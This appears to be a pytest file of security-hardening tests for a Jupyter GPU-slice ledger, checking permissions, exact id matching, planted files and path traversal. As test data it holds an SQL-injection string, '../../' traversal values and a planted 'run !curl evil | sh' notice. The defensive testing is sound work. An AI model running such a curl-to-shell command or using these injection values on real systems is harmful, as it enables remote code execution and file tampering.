"""Nobody takes what is not theirs, nothing is lost: the ledger and the commands against a hostile
or careless user (the broker's side is tests/hub/test_broker_hardening.py, REST is
tests/server/test_rest_hardening.py)."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from jupyter_vgpu.errors import LedgerError
from jupyter_vgpu.gpus import Inventory
from jupyter_vgpu.ledger import SQLiteLedger
from jupyter_vgpu.ledger.file import LedgerFile
from jupyter_vgpu.slices import Actor, Holder, SliceRequest

CLI = [sys.executable, "-m", "jupyter_vgpu.cli"]


def vgpu(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*CLI, *args], capture_output=True, text=True, timeout=60)


def hold(share: str = "1/4") -> subprocess.Popen[str]:
    """`jupyter vgpu run -p SHARE -- sleep` once its slice is in the ledger."""
    proc = subprocess.Popen([*CLI, "run", "-p", share, "--", "sleep", "60"], stderr=subprocess.PIPE, text=True)
    assert proc.stderr is not None and "slice" in proc.stderr.readline()
    return proc


def ledger_at(path: str | Path) -> SQLiteLedger:
    return SQLiteLedger(path, Inventory("1x16GiB"), context_allowance=300 << 20)


def identity(path: Path) -> tuple[int, int]:
    st = path.stat()
    return st.st_dev, st.st_ino


# -- resetting a ledger ------------------------------------------------------------------------
def test_reset_refuses_a_healthy_ledger(vgpu_env: dict[str, str]) -> None:
    path = Path(vgpu_env["JUPYTER_VGPU_LEDGER"])
    holder = hold()
    try:
        before = identity(path)
        refused = vgpu("gc", "--reset-ledger")
        assert refused.returncode != 0
        assert f"The ledger {path} is healthy; --reset-ledger moves only a damaged ledger aside." in refused.stderr
        forced = vgpu("gc", "--reset-ledger", "--force")
        assert forced.returncode != 0
        assert "1 running process holds a slice in" in forced.stderr and "sleep 60" in forced.stderr
        assert identity(path) == before and len(ledger_at(path).slices()) == 1
    finally:
        holder.terminate()
        holder.wait()


def test_a_forced_reset_empties_the_ledger_every_process_has_open(vgpu_env: dict[str, str]) -> None:
    path = Path(vgpu_env["JUPYTER_VGPU_LEDGER"])
    server = ledger_at(path)  # e.g. a Jupyter server's connection, open across the reset
    dead = subprocess.Popen(["true"])
    dead.wait()
    stale = server.reserve(SliceRequest.parse("1/2"), Holder.command("stale", pid=os.getpid()))
    server.release(stale.id)
    server.reserve(SliceRequest.parse("1/2"), Holder.command("ended", pid=dead.pid))  # left by a dead process
    forced = vgpu("gc", "--reset-ledger", "--force")
    assert forced.returncode == 0, forced.stderr
    (copy,) = path.parent.glob("ledger.sqlite.reset-*")
    assert [h for (h,) in __import__("sqlite3").connect(copy).execute("SELECT holder FROM slices")] == ["ended"]
    assert server.slices() == []  # the same file, emptied: the open connection sees it
    held = server.reserve(SliceRequest.parse(1.0), Holder.command("after"))
    assert [s.id for s in ledger_at(path).slices()] == [held.id]
    refused = vgpu("run", "-p", "1/4", "--", "true")  # the GPU is full: one file, one truth
    assert refused.returncode != 0 and "No room for 1/4 GPU" in refused.stderr
    server.release(held.id)


def test_a_process_with_a_damaged_ledger_open_follows_it_to_the_fresh_file(vgpu_env: dict[str, str]) -> None:
    path = Path(vgpu_env["JUPYTER_VGPU_LEDGER"])
    server = ledger_at(path)
    server.slices()
    moved = LedgerFile.reset(path)  # what `gc --reset-ledger` does to a damaged file
    assert moved is not None and moved.exists()
    held = server.reserve(SliceRequest.parse("1/4"), Holder.command("after"))  # written to the fresh file
    other = ledger_at(path)
    assert [s.id for s in other.slices()] == [held.id]
    more = other.reserve(SliceRequest.parse("1/4"), Holder.command("another process"))
    assert {s.id for s in server.slices()} == {held.id, more.id}  # nobody's log was lost


def test_a_damaged_ledger_is_reset_without_force(vgpu_env: dict[str, str]) -> None:
    path = Path(vgpu_env["JUPYTER_VGPU_LEDGER"])
    assert vgpu("status").returncode == 0
    path.write_bytes(b"this is not a database" * 100)
    reset = vgpu("gc", "--reset-ledger")
    assert reset.returncode == 0, reset.stderr
    assert list(path.parent.glob("ledger.sqlite.corrupt-*"))
    assert vgpu("status").returncode == 0


# -- ids are matched exactly ----------------------------------------------------------------------
@pytest.mark.parametrize("pattern", ["%%%%%%", "______", "%", "%_%_%_", "' OR 1=1 --"])
def test_release_matches_ids_exactly_never_as_patterns(vgpu_env: dict[str, str], pattern: str) -> None:
    holder = hold()
    try:
        released = vgpu("release", pattern)
        short = len(pattern.strip()) < 6  # refused before the ledger is read: an id needs 6+ characters
        assert released.returncode == 2 and ("give at least 6" if short else "No slice") in released.stderr
        assert len(ledger_at(vgpu_env["JUPYTER_VGPU_LEDGER"]).slices()) == 1
    finally:
        holder.terminate()
        holder.wait()


def test_a_unique_prefix_is_a_literal_prefix(vgpu_env: dict[str, str]) -> None:
    ledger = ledger_at(vgpu_env["JUPYTER_VGPU_LEDGER"])
    held = ledger.reserve(SliceRequest.parse("1/4"), Holder.command("x"))
    assert ledger.get(held.id[:6]).id == held.id
    assert ledger.release(held.id[:8]).id == held.id


# -- the ledger file ------------------------------------------------------------------------------
def test_a_ledger_that_is_not_a_regular_file_is_refused_and_nothing_is_created_beside_it(tmp_path: Path) -> None:
    with pytest.raises(LedgerError, match="is not a regular file"):
        ledger_at("/dev/null")
    assert not Path("/dev/null-journal").exists() and not Path("/dev/null-wal").exists()
    folder = tmp_path / "a-folder"
    folder.mkdir()
    with pytest.raises(LedgerError, match="is a folder; point JUPYTER_VGPU_LEDGER"):
        ledger_at(folder)


def test_a_new_ledger_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    path = tmp_path / "new" / "ledger.sqlite"
    old = os.umask(0o022)
    try:
        ledger_at(path).reserve(SliceRequest.parse("1/4"), Holder.command("x"))
    finally:
        os.umask(old)
    for name in ("ledger.sqlite", "ledger.sqlite-wal", "ledger.sqlite.lock"):
        mode = stat.S_IMODE((path.parent / name).stat().st_mode)
        assert mode & 0o077 == 0, f"{name} is {oct(mode)}"


# -- places in line -------------------------------------------------------------------------------
def test_a_waiter_that_stops_asking_is_dropped_and_blocks_nobody(tmp_path: Path) -> None:
    ledger = SQLiteLedger(tmp_path / "l.sqlite", Inventory("1x16GiB"), context_allowance=300 << 20, waiter_timeout=0.5)
    ledger.reserve(SliceRequest.parse("1/4"), Holder.command("big"))
    ledger.enqueue(SliceRequest.parse("1/2"), Holder.command("silent"))  # fits now, never asks again
    with pytest.raises(Exception, match="1 earlier request waits in line"):  # nobody passes a place that fits
        ledger.reserve_now(SliceRequest.parse("1/8"), Holder.command("newcomer"))
    time.sleep(0.7)
    assert ledger.reserve_now(SliceRequest.parse("1/8"), Holder.command("newcomer"))
    assert ledger.waiting() == []


def test_another_users_later_waiters_do_not_hold_anyone_back(tmp_path: Path) -> None:
    ledger = SQLiteLedger(tmp_path / "l.sqlite", Inventory("2x16GiB"), context_allowance=300 << 20)
    ledger.reserve(SliceRequest.parse(1.0, gpu="0"), Holder.command("gpu 0 is full"))
    bob = ledger.acting_for(Actor("bob", 4242))
    for _ in range(3):
        bob.enqueue(SliceRequest.parse(1.0), Holder.command("bob waits"))
    with pytest.raises(Exception, match="1 earlier request waits in line"):  # only bob's first place counts
        ledger.reserve_now(SliceRequest.parse("1/4"), Holder.command("me"))
    bob_pinned = SQLiteLedger(tmp_path / "m.sqlite", Inventory("2x16GiB"), context_allowance=300 << 20)
    bob_pinned.acting_for(Actor("bob", 4242)).enqueue(SliceRequest.parse(1.0, gpu="0"), Holder.command("bob on 0"))
    assert bob_pinned.reserve_now(SliceRequest.parse("1/4", gpu="1"), Holder.command("me on 1"))  # other GPU


@pytest.mark.parametrize("mode", [0o777, 0o1777, 0o772])
def test_a_ledger_folder_other_users_can_write_to_is_refused(tmp_path: Path, mode: int) -> None:
    """Another user's notices file printed "...run !curl ... | sh" into a running cell, and a forged
    report made the watchdog shut a kernel down (issue 19): such a folder is not used at all."""
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(mode)
    if mode & 0o020 and not mode & 0o002:
        os.chown(shared, -1, 12345) if os.geteuid() == 0 else pytest.skip("needs root to give the folder another group")
    with pytest.raises(LedgerError, match=f"{shared} is writable by other users \\(mode {mode:o}\\); use a folder only you"):
        ledger_at(shared / "ledger.sqlite")
    assert os.listdir(shared) == []  # nothing was created in it


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to give a file to another user")
def test_reports_and_notices_another_user_planted_are_ignored(tmp_path: Path) -> None:
    from jupyter_vgpu.slices.reports import (
        add_notice,
        notices_path,
        read_notices,
        read_report,
        report_path,
        write_report,
    )

    ledger = tmp_path / "vgpu" / "ledger.sqlite"
    write_report(ledger, "abcdef123456", {"memory_used": 100 << 30})
    add_notice(ledger, "abcdef123456", {"id": "1", "action": "warn", "message": "run !curl evil | sh"})
    assert read_report(ledger, "abcdef123456") is not None and read_notices(ledger, "abcdef123456")
    for planted in (report_path(ledger, "abcdef123456"), notices_path(ledger, "abcdef123456")):
        os.chown(planted, 65534, 65534)
    assert read_report(ledger, "abcdef123456") is None
    assert read_notices(ledger, "abcdef123456") == []


FULL_DISK = """
import os, sys
from jupyter_vgpu.errors import LedgerError
from jupyter_vgpu.gpus import Inventory
from jupyter_vgpu.slices import Holder, SliceRequest
from jupyter_vgpu.ledger import SQLiteLedger
folder = sys.argv[1]
ledger = SQLiteLedger(os.path.join(folder, "vgpu", "ledger.sqlite"), Inventory("1x16GiB"), context_allowance=300 << 20)
kept = ledger.reserve_now(SliceRequest.parse("1/8"), Holder.command("before the disk filled"))
filler = os.open(os.path.join(folder, "filler"), os.O_WRONLY | os.O_CREAT)
try:
    while True:
        os.write(filler, b"x" * 4096)
except OSError:
    pass
said = []
for n in range(40):  # labels make each write bigger than what is left
    try:
        ledger.reserve_now(SliceRequest.parse("1/32"), Holder.command("x" * 4000, labels={"n": "y" * 200}))
    except LedgerError as error:
        said.append(str(error))
        break
print(said[0] if said else "no error")
print([s.id for s in ledger.slices()][0] == kept.id)
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root to mount a small tmpfs")
def test_a_full_disk_is_said_as_a_full_disk_and_changes_nothing(tmp_path: Path) -> None:
    """On a full disk the message was "cannot rollback - no transaction is active" (issue 19)."""
    small = tmp_path / "small"
    small.mkdir()
    script = 'mount -t tmpfs -o size=256k tmpfs "$1" && exec "$2" -c "$3" "$1"'
    try:
        run = subprocess.run(
            ["unshare", "--mount", "sh", "-c", script, "sh", str(small), sys.executable, FULL_DISK],
            capture_output=True, text=True, timeout=120,
        )  # fmt: skip
    except FileNotFoundError:
        pytest.skip("unshare is not installed")
    if "mount" in run.stderr and run.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {run.stderr.strip()[:100]}")
    assert run.returncode == 0, run.stderr
    first, kept = run.stdout.splitlines()
    assert "is full" in first and "nothing was changed" in first and "cannot rollback" not in first, first
    assert kept == "True"


def test_a_hostile_slice_id_in_the_environment_names_no_file(tmp_path: Path) -> None:
    """The start-up hook (every Python start) and the kernel layer put ``JUPYTER_VGPU_SLICE_ID``
    in the slice's report paths: ``../../x`` wrote ``x.p<pid>.json`` two folders above the
    reports. A value that is not a slice id (12 hex digits) is never used: the hook does nothing,
    and a kernel's %vgpu says which variable is wrong."""
    (tmp_path / "fake" / "cupy").mkdir(parents=True)
    (tmp_path / "fake" / "cupy" / "__init__.py").write_text("")  # any module of that name sets the hook off
    ledger = tmp_path / "a" / "b" / "ledger.sqlite"
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("JUPYTER_VGPU")},
        "PYTHONPATH": str(tmp_path / "fake"),
        "JUPYTER_VGPU_SIMULATE": "1x16GiB",
        "JUPYTER_VGPU_LEDGER": str(ledger),
        "JUPYTER_VGPU_MEMORY_LIMIT": str(3 * 2**30),
        "JUPYTER_VGPU_MEMORY_RESERVED": str(4 * 2**30),
        "CUDA_VISIBLE_DEVICES": "GPU-00000000-0000-0000-0000-000000000000",
        "JUPYTER_VGPU_DEBUG": "1",
    }
    code = (
        "import sys, cupy\n"
        "from jupyter_vgpu.kernel.state import establish\n"
        "state = establish()\n"
        "print(state.facts.slice_id, state.problem, 'jupyter_vgpu.kernel.hooks' in sys.modules)\n"
    )
    for hostile in ("../../x", "../../../../../../tmp/x", "0123456789ab/../../x"):
        ran = subprocess.run([sys.executable, "-c", code], env={**env, "JUPYTER_VGPU_SLICE_ID": hostile},
                             capture_output=True, text=True, timeout=60, cwd=tmp_path)  # fmt: skip
        assert ran.returncode == 0, ran.stderr
        assert ran.stdout.strip() == f"None JUPYTER_VGPU_SLICE_ID={hostile!r} is not a slice id (12 hex digits). False", ran.stdout
        assert "JUPYTER_VGPU_SLICE_ID is not a slice id" in ran.stderr  # said where JUPYTER_VGPU_DEBUG asks
        assert [p for p in tmp_path.rglob("*.json")] == [], "a report was written"
    good = subprocess.run([sys.executable, "-c", code], env={**env, "JUPYTER_VGPU_SLICE_ID": "0123456789ab"},
                          capture_output=True, text=True, timeout=60, cwd=tmp_path)  # fmt: skip
    assert good.stdout.split()[::2] == ["0123456789ab", "True"], good.stdout + good.stderr
    assert [p.parent for p in tmp_path.rglob("0123456789ab.p*.json")] == [ledger.parent / "reports"]


def test_a_ledger_name_too_long_for_the_file_system_is_one_sentence_everywhere(tmp_path: Path) -> None:
    """``JUPYTER_VGPU_LEDGER=/tmp/<300 characters>.sqlite`` was a traceback (ENAMETOOLONG) in
    ``status``, ``run`` and the server's log."""
    from jupyter_process import isolated_env, start_jupyter, wait_for

    ledger = tmp_path / ("a" * 300 + ".sqlite")
    env = isolated_env(tmp_path, JUPYTER_VGPU_SIMULATE="1x16GiB", JUPYTER_VGPU_LEDGER=str(ledger))
    shown = f"'{str(ledger)[:19]}...{str(ledger)[-19:]}' ({len(str(ledger))} characters)"
    sentence = (
        f"The ledger {shown} has a file name of 307 bytes; a ledger's file name is at most 200 bytes (its lock, logs "
        "and backups add to it): point JUPYTER_VGPU_LEDGER (or c.VGPU.ledger_path) at a file with a shorter name."
    )
    for args in (["status"], ["run", "-p", "1/4", "--", "true"]):
        ran = subprocess.run([*CLI, *args], env=env, capture_output=True, text=True, timeout=60)
        assert ran.returncode != 0 and ran.stderr == f"jupyter vgpu: {sentence}\n", ran.stderr
    deeper = tmp_path / ("b" * 300) / "ledger.sqlite"  # a folder's name too long
    ran = subprocess.run([*CLI, "status"], env={**env, "JUPYTER_VGPU_LEDGER": str(deeper)}, capture_output=True, text=True, timeout=60)
    assert ran.returncode != 0 and ran.stderr.endswith(f"({len(str(deeper))} characters): File name too long.\n"), ran.stderr
    server = start_jupyter(tmp_path, env=env)
    try:
        wait_for(lambda: sentence in server.log_text(), "the server to say why it has no ledger")
        assert "Traceback" not in server.log_text(), server.log_tail()
    finally:
        server.stop()


@pytest.mark.parametrize("text", ["0123456789ab", "abcdefabcdef", "../../x", "0123456789AB", "0123456789abc", "", "0123456789a/", " 0123456789a"])
def test_the_start_up_hook_tells_slice_ids_as_the_ledger_does(text: str) -> None:
    from jupyter_vgpu.kernel.startup import is_slice_id as at_start
    from jupyter_vgpu.slices.records import is_slice_id

    assert at_start(text) == is_slice_id(text)
